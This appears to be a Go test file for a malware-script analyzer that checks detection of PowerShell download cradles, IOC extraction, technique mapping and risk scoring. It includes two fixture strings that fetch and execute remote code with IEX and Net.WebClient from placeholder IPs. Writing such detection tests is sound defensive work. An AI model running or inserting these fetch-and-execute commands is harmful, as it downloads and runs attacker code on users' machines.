package pipeline

import (
	"reflect"
	"strings"
	"testing"

	"github.com/0xlayer/scriptscope/internal/analyzer"
	"github.com/0xlayer/scriptscope/internal/catalog"
)

func mustPipeline(t *testing.T) *Pipeline {
	t.Helper()
	p, err := New(catalog.Default())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const cradleScript = `$wc = New-Object Net.WebClient
IEX $wc.DownloadString('http://198.51.100.7/stage.ps1')`

func TestAnalyzeDownloadCradle(t *testing.T) {
	p := mustPipeline(t)
	res := p.Analyze(Request{ID: "case-7", Data: []byte(cradleScript)})

	if res.RequestID != "case-7" {
		t.Errorf("request id = %q", res.RequestID)
	}
	if !res.Obfuscation.Detected {
		t.Error("invoke-expression should register as obfuscation")
	}

	categories := map[string]bool{}
	for _, f := range res.Findings {
		categories[f.Category] = true
	}
	if !categories[catalog.CategoryNetwork] || !categories[catalog.CategoryMalicious] {
		t.Errorf("expected network and malicious-function findings, got %v", categories)
	}

	if res.Framework == nil || res.Framework.Framework != "Generic HTTP Stager" {
		t.Fatalf("framework = %+v", res.Framework)
	}
	if res.Beacon == nil || len(res.Beacon.Servers) == 0 || res.Beacon.Servers[0] != "198.51.100.7" {
		t.Fatalf("beacon = %+v", res.Beacon)
	}

	var sawIP bool
	for _, ioc := range res.IOCs {
		if ioc.Type == "ip_address" && ioc.Value == "198.51.100.7" {
			sawIP = true
		}
	}
	if !sawIP {
		t.Errorf("expected an ip_address ioc for the stager host, got %+v", res.IOCs)
	}

	if res.Techniques["T1105"] == nil {
		t.Error("ingress tool transfer should be in the technique map")
	}
	if res.Risk.Level < analyzer.SeverityMedium {
		t.Errorf("risk level = %v (score %f), want at least MEDIUM", res.Risk.Level, res.Risk.Score)
	}
}

func TestAnalyzeBenignScript(t *testing.T) {
	benign := strings.Repeat("Write-Host 'hello world'\n", 4)

	p := mustPipeline(t)
	res := p.Analyze(Request{Data: []byte(benign)})

	if res.Obfuscation.Detected {
		t.Errorf("benign text flagged as obfuscated: %+v", res.Obfuscation)
	}
	if len(res.Findings) != 0 {
		t.Errorf("benign text produced findings: %+v", res.Findings)
	}
	if res.Framework != nil {
		t.Errorf("benign text matched a framework: %+v", res.Framework)
	}
	if len(res.IOCs) != 0 {
		t.Errorf("benign text produced iocs: %+v", res.IOCs)
	}
	if res.Risk.Level != analyzer.SeverityInfo {
		t.Errorf("benign risk level = %v (score %f)", res.Risk.Level, res.Risk.Score)
	}
}

func TestAnalyzeIsDeterministic(t *testing.T) {
	p := mustPipeline(t)
	req := Request{ID: "same", Data: []byte(cradleScript)}

	a := p.Analyze(req)
	b := p.Analyze(req)
	a.Meta.Duration = 0
	b.Meta.Duration = 0

	if !reflect.DeepEqual(a, b) {
		t.Errorf("same input produced different results:\n%+v\n%+v", a, b)
	}
}

func TestAnalyzeInvalidUTF8(t *testing.T) {
	p := mustPipeline(t)
	data := []byte("IEX \xff\xfe(New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')")

	res := p.Analyze(Request{Data: data})
	if len(res.Meta.SHA256) != 64 {
		t.Errorf("sha256 = %q", res.Meta.SHA256)
	}
	if res.Framework == nil {
		t.Error("detection should survive invalid byte sequences")
	}
}

func TestAnalyzeMetadata(t *testing.T) {
	p := mustPipeline(t)
	res := p.Analyze(Request{Data: []byte("Write-Host 'hi'")})

	if res.Meta.Version != Version {
		t.Errorf("version = %q, want %q", res.Meta.Version, Version)
	}
	want := []string{"base64", "xor", "string-concat", "char-code"}
	if !reflect.DeepEqual(res.Meta.Engines, want) {
		t.Errorf("engines = %v, want %v", res.Meta.Engines, want)
	}
}
